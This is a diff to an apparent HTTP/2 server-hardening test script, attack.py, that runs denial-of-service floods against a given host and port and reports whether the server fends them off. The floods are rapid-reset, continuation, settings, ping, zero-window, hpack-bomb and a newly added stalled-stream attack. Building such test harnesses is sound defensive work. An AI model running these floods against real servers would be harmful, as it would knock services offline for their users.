@@ -5,7 +5,7 @@ of frames or seconds is spent, then prints one JSON line:
 
   {"attack": ..., "client_port": N, "outcome": "goaway" | "closed" | "survived",
    "error_code": N or null, "debug": "...", "frames_sent": N, "seconds": S, "responses": N,
-   "resets_received": N}
+   "resets_received": N, "reset_streams": [stream ids]}
 
 "goaway": the server sent GOAWAY (error_code is its code) and closed or is closing;
 "closed": the connection ended without a GOAWAY; "survived": the budget was spent and the
@@ -13,12 +13,14 @@ connection is still open, i.e. the server did not defend itself. client_port is 
 connection's own port, by which the server's log names it.
 
 Every attack starts the connection as a real client does (the server's SETTINGS are read and
-acknowledged). P is the path requested: the settings and ping floods and zero-window want a
-large response, made-you-reset and empty-data-flood one that takes a request body.
+acknowledged). P is the path requested: the settings and ping floods, zero-window and
+stalled-stream want a large response, made-you-reset and empty-data-flood one that takes a request body.
 
 usage: attack.py HOST PORT ATTACK [--seconds S] [--frames N] [--path P]
 attacks: rapid-reset, made-you-reset, continuation-flood, settings-flood, ping-flood,
-         empty-data-flood, priority-flood, zero-window, hpack-bomb
+         empty-data-flood, priority-flood, zero-window, hpack-bomb; and stalled-stream, where
+         only one of two streams is held back (the server should reset it, not end the
+         connection)
 """
 import argparse
 import json
@@ -43,7 +45,7 @@ FRAME_HEADER = 9
 class Connection:
     """A client connection that writes raw frames and (optionally) reads the server's."""
 
-    def __init__(self, host, port, settings=None, receive_buffer=None):
+    def __init__(self, host, port, budget, settings=None, receive_buffer=None):
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         if receive_buffer:
             self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
@@ -56,6 +58,8 @@ class Connection:
         self.closed = False
         self.responses = 0
         self.resets = 0
+        self.reset_streams = []
+        self.budget = budget
         self.frames_sent = 0
         self.frames_received = 0
         self.settings_received = False
@@ -67,13 +71,11 @@ class Connection:
         self.sock.sendall(PREFACE + initial.serialize())
 
     def send(self, *frames):
+        """Sends the frames that fit in the budget of frames."""
+        frames = frames[:max(0, self.budget - self.frames_sent)]
         data = b"".join(f.serialize() for f in frames)
         self.sock.sendall(data)
         self.frames_sent += len(frames)
-
-    def send_raw(self, data, frames=1):
-        self.sock.sendall(data)
-        self.frames_sent += frames
 
     def request_headers(self, stream_id, method="GET", path="/", end_stream=True, extra=()):
         block = self.encoder.encode([(":method", method), (":scheme", "http"), (":path", path),
@@ -132,6 +134,7 @@ class Connection:
             self.goaway = (frame.error_code, frame.additional_data.decode("utf-8", "replace"))
         elif isinstance(frame, RstStreamFrame):
             self.resets += 1
+            self.reset_streams.append(frame.stream_id)
         elif isinstance(frame, (HeadersFrame, DataFrame)) and "END_STREAM" in frame.flags:
             self.responses += 1
 
@@ -142,9 +145,10 @@ class Connection:
         while not self.closed and time.monotonic() < deadline:
             received = self.frames_received
             if not self.read_once(quiet):
-                return
+                break
             if self.settings_received and self.frames_received == received:
-                return
+                break
+        self.sock.settimeout(None)
 
     def drain(self, seconds):
         """Reads for up to this long, or until the connection ends."""
@@ -157,12 +161,12 @@ class Connection:
         return self.closed or self.goaway is not None
 
 
-def run(attack, conn, budget_frames, budget_seconds, path):
+def run(attack, conn, budget_seconds, path):
     conn.settle()
     start = time.monotonic()
 
     def spent():
-        return conn.frames_sent >= budget_frames or time.monotonic() - start > budget_seconds
+        return conn.frames_sent >= conn.budget or time.monotonic() - start > budget_seconds
 
     try:
         if attack == "rapid-reset":
@@ -221,7 +225,8 @@ def run(attack, conn, budget_frames, budget_seconds, path):
             # server's socket buffer), so that the answers queue up in the server at once.
             conn.send(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: MAX_WINDOW}),
                       WindowUpdateFrame(0, MAX_WINDOW - DEFAULT_WINDOW),
-                      *[conn.request_headers(stream, path=path) for stream in range(1, 32, 2)])
+                      *[conn.request_headers(stream, path=path) for stream in range(1, 128, 2)])
+            time.sleep(1)
             while not spent():
                 if attack == "settings-flood":
                     frames = [SettingsFrame(0, settings={SettingsFrame.MAX_CONCURRENT_STREAMS: 100})
@@ -256,6 +261,16 @@ def run(attack, conn, budget_frames, budget_seconds, path):
                 conn.send(*[conn.request_headers(stream, path=path) for stream in range(1, 20, 2)])
             while not conn.ended() and not spent():
                 time.sleep(0.05)
+        elif attack == "stalled-stream":
+            # Stream windows of 0, then one stream is left stuck while another's response keeps
+            # moving (4 KiB per 0.1 s): the server must reset the stuck stream only.
+            conn.start_reader()
+            with conn.lock:
+                conn.send(conn.request_headers(1, path=path), conn.request_headers(3, path=path))
+            while not conn.ended() and not spent():
+                with conn.lock:
+                    conn.send(WindowUpdateFrame(3, 4096), WindowUpdateFrame(0, 4096))
+                time.sleep(0.1)
         elif attack == "hpack-bomb":
             # One large header enters the dynamic table; then each request refers to it
             # hundreds of times with one byte each.
@@ -295,6 +310,7 @@ def run(attack, conn, budget_frames, budget_seconds, path):
         "seconds": round(time.monotonic() - start, 3),
         "responses": conn.responses,
         "resets_received": conn.resets,
+        "reset_streams": conn.reset_streams,
     }
 
 
@@ -309,12 +325,12 @@ def main():
     args = parser.parse_args()
     settings = None
     receive_buffer = None
-    if args.attack == "zero-window":
+    if args.attack in ("zero-window", "stalled-stream"):
         settings = {SettingsFrame.INITIAL_WINDOW_SIZE: 0}
     if args.attack in ("settings-flood", "ping-flood"):
         receive_buffer = 4096
-    conn = Connection(args.host, args.port, settings, receive_buffer)
-    print(json.dumps(run(args.attack, conn, args.frames, args.seconds, args.path)))
+    conn = Connection(args.host, args.port, args.frames, settings, receive_buffer)
+    print(json.dumps(run(args.attack, conn, args.seconds, args.path)))
 
 
 if __name__ == "__main__":
